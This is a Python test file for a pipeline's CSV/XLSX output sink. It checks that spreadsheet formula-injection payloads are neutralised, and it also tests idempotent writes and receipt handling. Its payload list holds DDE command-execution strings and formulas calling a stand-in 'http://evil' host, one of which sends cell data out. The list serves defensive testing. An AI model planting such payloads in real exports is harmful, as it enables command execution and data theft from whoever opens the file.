"""Given texts that a spreadsheet program may compute, no cell of a list does anything."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from itertools import product
from pathlib import Path

import openpyxl
import pytest

from orderhealth_pipeline.respond.actions.settings import SinkSettings
from orderhealth_pipeline.respond.sinks.file_sink import FileSink
from orderhealth_pipeline.respond.sinks.receipts import read_receipts, receipts_path
from orderhealth_pipeline.respond.sinks.rows import COLUMNS, harmless, rows_of
from orderhealth_pipeline.respond.sinks.sink import Parcel

T = datetime(2026, 11, 10, 4, tzinfo=UTC)
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "\x00=")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil","click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil/",A1),"//a")',
    'WEBSERVICE("http://evil")',
    'DDE("cmd";"/C calc";"x")',
    "1",
    "A1",
    "张三",
    "2+5+cmd|'/C calc'!A0",
    "@SUM(1)",
    "=1",
    "+86 138 1234 5678",
    "-5",
    "'quoted",
    '"x"',
    ";=1",
    ",=1",
    "|calc",
)
PAYLOADS = [beginning + body for beginning, body in product(BEGINNINGS, BODIES)]


def parcel(key: str = "k", **receiver: str) -> Parcel:
    told = {
        "reason": "Paid, but missing from the ERP",
        "order": {"shop": "T", "amount": "10.00", "status": "paid"},
        "receiver": receiver,
        "lines": [
            {"line_no": "1", "sku": "S1", "quantity": "2", "unit_price": "3.00"},
            {"line_no": "2", "sku": "S2", "quantity": "1", "unit_price": "4.00"},
        ],
        "payments": [
            {"paid_at": "2026-11-10T00:00:00Z", "amount": "10.00", "method": "x", "status": "succeeded"}
        ],
    }
    return Parcel("a", key, "resync_order", "A", "paid_not_in_erp", None, T, json.dumps(told))


def sink(folder: Path, name: str) -> FileSink:
    return FileSink("calls", SinkSettings.model_validate({"type": "file", "path": folder / name}))


def csv_rows(file: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.read_text(encoding="utf-8-sig"), newline="")))


def test_there_are_two_hundred_payloads_and_none_is_live() -> None:
    assert len(PAYLOADS) == 200
    for payload in PAYLOADS:
        assert harmless(payload).startswith("'"), payload


@pytest.mark.parametrize("name", ["calls.csv", "calls.xlsx"])
def test_no_payload_is_live_in_a_file(tmp_path: Path, name: str) -> None:
    to = sink(tmp_path, name)
    to.send([parcel(f"k{number}", remark=text, receiver=text) for number, text in enumerate(PAYLOADS)], T)
    if name.endswith(".csv"):
        cells = [value for row in csv_rows(to.path) for value in row.values()]
    else:
        book = openpyxl.load_workbook(to.path)
        found = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row]
        assert {cell.data_type for cell in found if cell.value is not None} == {"s"}
        assert not [cell for cell in found if cell.hyperlink]
        cells = [cell.value for cell in found if cell.value is not None]
    assert len(cells) >= 400
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝＋－＠") and cell] == []


def test_a_missing_order_has_a_row_a_line_with_what_an_erp_needs() -> None:
    first, second = rows_of(parcel(receiver="李四", phone="13812345678", street="文三路1号"))
    assert (first["sku"], second["sku"]) == ("S1", "S2")
    assert first["order_id"] == second["order_id"] == "A"
    assert (first["receiver"], first["phone"], first["street"]) == ("李四", "13812345678", "文三路1号")
    assert (first["paid_amount"], first["quantity"], first["unit_price"]) == ("10.00", "2", "3.00")
    assert tuple(first) == COLUMNS


@pytest.mark.parametrize("name", ["calls.csv", "calls.xlsx"])
def test_an_action_is_written_once_however_often_it_is_sent(tmp_path: Path, name: str) -> None:
    to = sink(tmp_path, name)
    for _ in range(2):
        to.send([parcel("k1")], T)
        to.send([parcel("k1"), parcel("k2")], T)
    if name.endswith(".csv"):
        assert [row["idempotency_key"] for row in csv_rows(to.path)] == ["k1", "k1", "k2", "k2"]
    else:
        assert openpyxl.load_workbook(to.path).worksheets[0].max_row == 5


def test_a_list_that_a_robot_took_away_begins_anew_without_what_it_has(tmp_path: Path) -> None:
    to = sink(tmp_path, "calls.csv")
    to.send([parcel("k1")], T)
    to.path.rename(tmp_path / "taken.csv")
    to.send([parcel("k1"), parcel("k2")], T)
    assert {row["idempotency_key"] for row in csv_rows(to.path)} == {"k2"}


def test_half_a_line_that_somebody_died_over_is_written_anew(tmp_path: Path) -> None:
    to = sink(tmp_path, "calls.csv")
    to.send([parcel("k1")], T)
    with to.path.open("ab") as opened:
        opened.write(b"k2,half a li")
    to.send([parcel("k2")], T)
    assert [row["idempotency_key"] for row in csv_rows(to.path)] == ["k1", "k1", "k2", "k2"]


def test_a_list_that_a_person_saved_without_its_end_loses_nothing(tmp_path: Path) -> None:
    to = sink(tmp_path, "calls.csv")
    to.send([parcel("k1")], T)
    to.path.write_bytes(to.path.read_bytes().rstrip())
    to.send([parcel("k2")], T)
    assert [row["idempotency_key"] for row in csv_rows(to.path)] == ["k1", "k1", "k2", "k2"]


def test_what_has_a_receipt_leaves_the_spreadsheet(tmp_path: Path) -> None:
    to = sink(tmp_path, "calls.xlsx")
    to.send([parcel("k1"), parcel("k2")], T)
    receipts = receipts_path(to.path)
    assert receipts.name == "calls.receipts.csv"
    with receipts.open("a", encoding="utf-8") as opened:
        opened.write("k1,done,li,spoke\nk2,later,li,\nk3,失败,li,no answer\n")
    assert [(each.key, each.is_done, each.who) for each in read_receipts(to.path)] == [
        ("k1", True, "li"),
        ("k3", False, "li"),
    ]
    to.send([parcel("k4")], T)
    rows = openpyxl.load_workbook(to.path).worksheets[0].iter_rows(min_row=2, values_only=True)
    assert {row[0] for row in rows} == {"k2", "k4"}
